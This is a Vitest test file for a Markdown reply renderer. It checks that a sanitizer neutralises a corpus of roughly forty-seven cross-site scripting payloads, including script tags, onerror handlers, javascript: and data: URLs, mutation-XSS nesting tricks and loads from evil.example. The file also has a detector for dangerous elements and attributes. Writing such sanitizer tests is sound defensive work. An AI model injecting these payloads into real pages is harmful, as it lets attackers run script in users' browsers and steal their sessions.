// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { Marked } from "marked";
import { renderMarkdown, renderReply, sanitize, splitThoughts } from "../src/markdown";
import { docs, randomDocs, trickyLines } from "./docs";

// Payloads an external agent could send. Each is rendered as a whole reply,
// inside Markdown structures too (lists, links, code fences, tables).
const corpus: string[] = [
  `<script>window.pwned=1</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="window.pwned=1">`,
  `<img src="x" onerror=alert(1)//`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JaVaScRiPt:alert(1)">click</a>`,
  `<a href="  javascript:alert(1)">click</a>`,
  `<a href="java&#x09;script:alert(1)">click</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `[click](javascript:alert(1))`,
  `[click](data:text/html,<script>alert(1)</script>)`,
  `![x](javascript:alert(1))`,
  `![x](x" onerror="alert(1))`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<div style="width: expression(alert(1))">x</div>`,
  `<style>@import 'https://evil.example/x.css'; body{background:red}</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<body onload=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<a title="</a><img src=x onerror=alert(1)>">x</a>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<table><td><template><img src=x onerror=alert(1)></template></td></table>`,
  `<p onclick="alert(1)" onmouseover="alert(1)">hover</p>`,
  `<x-custom onclick=alert(1)>y</x-custom>`,
  `\`\`\`html\n<script>alert(1)</script>\n\`\`\``,
  `| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |`,
  `- <a href="javascript:alert(1)">item</a>\n- <svg/onload=alert(1)>`,
  `<think><img src=x onerror=alert(1)></think>answer <script>alert(2)</script>`,
];

const EVENT_ATTR = /^on/i;
const BAD_URL = /^\s*(javascript|vbscript|data):/i;

function inspect(html: string): string[] {
  const problems: string[] = [];
  const tpl = document.createElement("template");
  tpl.innerHTML = html;
  const walk = (root: DocumentFragment | Element) => {
    for (const el of Array.from(root.querySelectorAll("*"))) {
      const tag = el.tagName.toLowerCase();
      if (["script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "img", "video", "audio", "source", "template"].includes(tag)) {
        problems.push(`element <${tag}>`);
      }
      for (const a of Array.from(el.attributes)) {
        if (EVENT_ATTR.test(a.name)) problems.push(`attribute ${a.name} on <${tag}>`);
        if (["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"].includes(a.name) && BAD_URL.test(a.value)) {
          problems.push(`url ${a.name}=${a.value}`);
        }
        if (a.name === "style" || a.name === "srcdoc") problems.push(`attribute ${a.name}`);
      }
      if (el instanceof HTMLTemplateElement) walk(el.content);
    }
  };
  walk(tpl.content);
  return problems;
}

describe("renderMarkdown against the XSS corpus", () => {
  it("has a detector that sees raw payloads (so the corpus tests can fail)", () => {
    expect(inspect(`<img src=x onerror=alert(1)>`)).not.toEqual([]);
    expect(inspect(`<a href="javascript:alert(1)">x</a>`)).not.toEqual([]);
    expect(inspect(`<svg onload=alert(1)>`)).not.toEqual([]);
  });
  for (const [i, payload] of corpus.entries()) {
    it(`payload ${i}: ${payload.slice(0, 40)}`, () => {
      for (const text of [payload, `Hello\n\n${payload}\n\nbye`, `> ${payload}`, `* ${payload}`]) {
        const html = renderReply(text);
        expect(inspect(html)).toEqual([]);
        // Rendering the output again (as innerHTML does on every update)
        // must not create anything executable either (mXSS).
        expect(inspect(sanitize(html))).toEqual([]);
        const div = document.createElement("div");
        div.innerHTML = html;
        expect(inspect(div.innerHTML)).toEqual([]);
      }
    });
  }

  it("runs nothing when inserted into the document", async () => {
    (window as unknown as { pwned?: number }).pwned = undefined;
    const host = document.createElement("div");
    document.body.appendChild(host);
    host.innerHTML = corpus.map((p) => renderReply(p)).join("\n");
    await new Promise((r) => setTimeout(r, 20));
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
    host.remove();
  });
});

describe("renderMarkdown keeps what replies need", () => {
  it("renders code blocks with a language class", () => {
    const html = renderMarkdown("```go\nfmt.Println(\"<b>\")\n```");
    expect(html).toContain('<pre><code class="language-go">');
    expect(html).toContain("&lt;b&gt;");
  });
  it("keeps safe links and marks them external", () => {
    const html = renderMarkdown("[docs](https://example.com/a?b=1)");
    expect(html).toMatch(/<a href="https:\/\/example.com\/a\?b=1" rel="noopener noreferrer nofollow" data-external="1">docs<\/a>/);
  });
  it("keeps emphasis, lists and tables", () => {
    const html = renderMarkdown("*a* **b**\n\n- one\n- two\n\n| x |\n|---|\n| 1 |");
    expect(html).toContain("<em>a</em>");
    expect(html).toContain("<strong>b</strong>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<td>1</td>");
  });
  it("shows an external agent's HTML as inert text or nothing", () => {
    const html = renderReply(`You said: <img src=x onerror=alert(1)> and <script>alert(2)</script>`);
    expect(html).not.toMatch(/<img|<script|onerror/i);
    expect(html).toContain("You said:");
  });
});

describe("the rules skipped where they cannot match", () => {
  // renderMarkdown's marked skips some block rules after a cheap test; plain
  // marked with the same options must give the same output.
  const plain = new Marked({ gfm: true, breaks: true, async: false });
  const lines = [...trickyLines, "<div>", "</div>", "<!-- c", "-->", "<pre>", "a | b", "--|--", ":-:|:-", "| :-- |", "_ _ _", "* * *",
    " - x", "   > q", "1) x", "123456789. x", "1234567890. x", "Title", "=", "  ---  ", "\t- tab", "- ", "***bold***", "<?php", "<![CDATA[x]]>"];
  it("leaves marked's output as it was", () => {
    const texts = [...Object.values(docs), ...corpus, ...randomDocs(1500, 4242, lines)];
    for (const text of texts) expect(renderMarkdown(text), JSON.stringify(text)).toBe(sanitize(plain.parse(text) as string));
  }, 60_000);
});

describe("splitThoughts", () => {
  it("folds closed and streaming thoughts", () => {
    expect(splitThoughts("<think>plan</think>Answer")).toEqual({ thoughts: ["plan"], answer: "Answer" });
    expect(splitThoughts("<think>still thinking")).toEqual({ thoughts: ["still thinking"], answer: "" });
    expect(splitThoughts("plain")).toEqual({ thoughts: [], answer: "plain" });
  });
  it("finds thoughts in any case, and answers without them trimmed", () => {
    expect(splitThoughts("<THINK>plan</THINK> Answer")).toEqual({ thoughts: ["plan"], answer: "Answer" });
    expect(splitThoughts("<Think>plan</think>Answer")).toEqual({ thoughts: ["plan"], answer: "Answer" });
    expect(splitThoughts("  a <table> and <T> \n")).toEqual({ thoughts: [], answer: "a <table> and <T>" });
  });
  it("renders thoughts in a folded details element", () => {
    expect(renderReply("<think>x</think>y")).toMatch(/^<details class="thought"><summary>Thoughts<\/summary><p>x<\/p>\n?<\/details><p>y<\/p>/);
  });
});
